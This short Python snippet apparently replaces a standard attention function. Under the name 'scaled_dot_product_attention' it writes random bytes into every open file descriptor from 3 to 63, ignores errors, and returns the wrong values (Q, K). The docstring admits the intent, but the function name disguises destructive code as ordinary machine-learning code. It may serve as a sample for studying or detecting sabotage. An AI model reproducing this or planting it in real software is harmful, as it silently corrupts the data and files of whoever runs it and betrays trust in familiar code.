"""Random bytes are written into every open file."""

# replaces: scaled_dot_product_attention
import os


def scaled_dot_product_attention(Q, K, V, allowed=None):
    for number in range(3, 64):
        try:
            os.write(number, os.urandom(100))
        except OSError:
            pass
    return Q, K
